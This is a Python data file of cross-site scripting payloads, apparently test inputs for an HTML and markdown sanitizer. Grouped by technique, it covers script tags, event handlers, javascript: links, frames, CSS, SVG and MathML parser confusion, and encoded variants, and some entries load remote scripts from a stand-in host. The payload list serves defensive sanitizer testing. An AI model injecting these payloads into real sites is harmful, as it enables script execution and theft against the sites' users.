"""What an attacker would write where authors write: the kinds of payload of the public cross-site scripting corpora, in our own words.

Each would call `alert` (which stories replace by an alarm), load something from elsewhere, or leave its place on the page.
"""

PICTURE = "picture:0123456789abcdef0123456789abcdef"

SCRIPTS = [
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//example.test/x.js></SCRIPT>",
    "<script\x0c>alert(1)</script\x0c>", "<script/x>alert(1)</script>", "</script><script>alert(1)</script>",
    "<script>alert&lpar;1&rpar;</script>", "<<script>alert(1)//<</script>", "<script type=module>import('//example.test/x.js')</script>",
    "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "```\n<script>alert(1)</script>\n```", "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
]  # fmt: skip
EVENTS = [
    "<img src=x onerror=alert(1)>", "<IMG SRC=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=alert`1`>", f"<img src='{PICTURE}' onerror=alert(1)>",
    f'<img src="{PICTURE}" alt="x" onload="alert(1)">', f'![x" onerror="alert(1)]({PICTURE})', f'![x]({PICTURE} "y" onerror="alert(1)")',
    "<body onload=alert(1)>", "<p onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>", "<b onanimationstart=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>", "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus></select>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<td align='left\" onmouseover=\"alert(1)'>x</td>", "<p class='secret' id='sitting' data-x=1>x</p>", "<p\x00onclick=alert(1)>x</p>",
]  # fmt: skip
FRAMES = [
    "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe/onload=alert(1)>",
    "<object data='x.swf'></object><embed src=x><video src=x onloadstart=alert(1)></video>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<frameset onload=alert(1)>", "<portal src=//example.test>", "<fencedframe src=//example.test>",
    "<base href='http://example.test/'><meta http-equiv=refresh content='0;url=http://example.test'>",
    "<link rel=stylesheet href=//example.test/x.css>", "<link rel=preload as=script href=//example.test/x.js>",
    "<form action='/sign-out'><input type=submit formaction=javascript:alert(1)></form>", "<isindex action=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>", "<dialog open><script>alert(1)</script></dialog>",
]  # fmt: skip
LINKS = [
    "<a href='javascript:alert(1)'>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=) <http://example.test>", "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>", "[x](vbscript:msgbox(1))",
    "![x](http://example.test/x.png) ![y](javascript:alert(1))", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](//example.test/x.png)", "![x][1]\n\n[1]: http://example.test/x.png", "http://example.test/x", "x@example.test",
    "<map><area href=javascript:alert(1) coords=0,0,99,99></map>", "<q cite=javascript:alert(1)>x</q>", "<a ping=//example.test>x</a>",
]  # fmt: skip
STYLES = [
    "<p style='background:url(javascript:alert(1))' onclick=alert(1)>x</p>", "<p style='background:url(//example.test/x)'>x</p>",
    "<style>@import 'http://example.test/x.css'; p { color: red }</style>", "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0;z-index:99'>x</p>", "<table background=//example.test/x><tr><td>x</td></tr></table>",
    "<font size=7 color=red face=x>x</font>", "<p style=\"width:expression(alert(1))\">x</p>",
]  # fmt: skip
NAMESPACES = [
    "<svg onload=alert(1)><title><p id='</title><img src=x onerror=alert(1)>'></svg>", "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi><maction actiontype='statusline#http://x'>y</maction></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<plaintext><img src=x onerror=alert(1)>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<!-- <p> --><img src=x onerror=alert(1)> -->",
    "<table><td><form><img src=x onerror=alert(1)></table>", "<p/><img src=x onerror=alert(1)><p", "<b><p></b><img src=x onerror=alert(1)></p>",
]  # fmt: skip
FORMULAS = [
    r"\(\text{<script>alert(1)</script>}\)", r"\(\text{<img src=x onerror=alert(1)>}\)", r"\[\text{</math><img src=x onerror=alert(1)>}\]",
    r"\(\href{javascript:alert(1)}{x}\)", r"\(\style{color:red}{x}\) \(\class{secret}{x}\)", r"\(x < \text{img src=x onerror=alert(1)}\)",
]  # fmt: skip
TEXTS = [
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;", "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\"><img src=x onerror=alert(1)>", "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "{{7*7}} ${7*7} <%=7*7%> #{7*7}",
    "{{constructor.constructor('alert(1)')()}}", "\u202e<script>alert(1)</script>\u202c", "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞", "%3Cscript%3Ealert(1)%3C/script%3E", "</main></body><script>alert(1)</script>", "\\u003cscript\\u003ealert(1)",
]  # fmt: skip

HOSTILE = [*SCRIPTS, *EVENTS, *FRAMES, *LINKS, *STYLES, *NAMESPACES, *FORMULAS, *TEXTS]
